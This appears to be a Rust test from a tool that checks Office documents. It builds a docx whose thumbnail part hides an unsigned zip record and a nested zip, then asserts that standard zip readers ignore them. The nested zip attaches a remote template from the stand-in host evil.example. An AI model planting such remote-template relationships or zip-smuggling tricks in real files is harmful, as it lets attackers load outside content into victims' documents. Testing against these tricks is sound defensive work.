//! The record that may follow a stored part, written inside the part's
//! data without its signature.

use crate::common::hand_zip::{After, Part, crc, hand_zip, part};
use crate::common::office::{package, published};

const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
/// Relationships that attach a template from another host.
const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// A stored part whose sizes follow it may hold, early in its data, the
/// 12 bytes of such a record without its signature (the checksum and
/// length of the bytes before them), then a zip of its own: a reader that
/// looked for the record by its contents would end the part there and
/// read that zip's template as the document's. None does: Python's
/// `zipfile`, the zip crate, Java's `ZipFile` and Info-ZIP's `unzip` read
/// the part's length from the directory, Java's `ZipInputStream` and the
/// zip crate's stream reader refuse a stored part whose sizes follow it,
/// and LibreOffice's repair finds such records only by their signature
/// (checked in this round by running each, the zip crate below;
/// LibreOffice's from its source). So the file is what the directory says, and is published.
#[test]
fn a_record_without_its_signature_inside_a_part_s_data_changes_nothing() {
    let filler = b"filler";
    let mut data = filler.to_vec();
    data.extend(crc(filler).to_le_bytes());
    data.extend((filler.len() as u32).to_le_bytes());
    data.extend((filler.len() as u32).to_le_bytes());
    data.extend(package(&[("word/_rels/settings.xml.rels", REMOTE)]));
    for after in [After::Unsigned, After::Signed] {
        let parts = vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            Part {
                name: "docProps/thumbnail.bin",
                data: &data,
                after,
            },
        ];
        let bytes = hand_zip(&parts, |_| vec![]).bytes;
        // The zip crate, as a reader of the file, ends the part where the
        // directory says and finds no other part.
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
        assert_eq!(zip.len(), 2);
        let mut part = zip.by_name("docProps/thumbnail.bin").unwrap();
        let mut read = Vec::new();
        std::io::Read::read_to_end(&mut part, &mut read).unwrap();
        assert!(read == data, "the part was read otherwise");
        drop(part);
        published("report.docx", &bytes);
    }
}
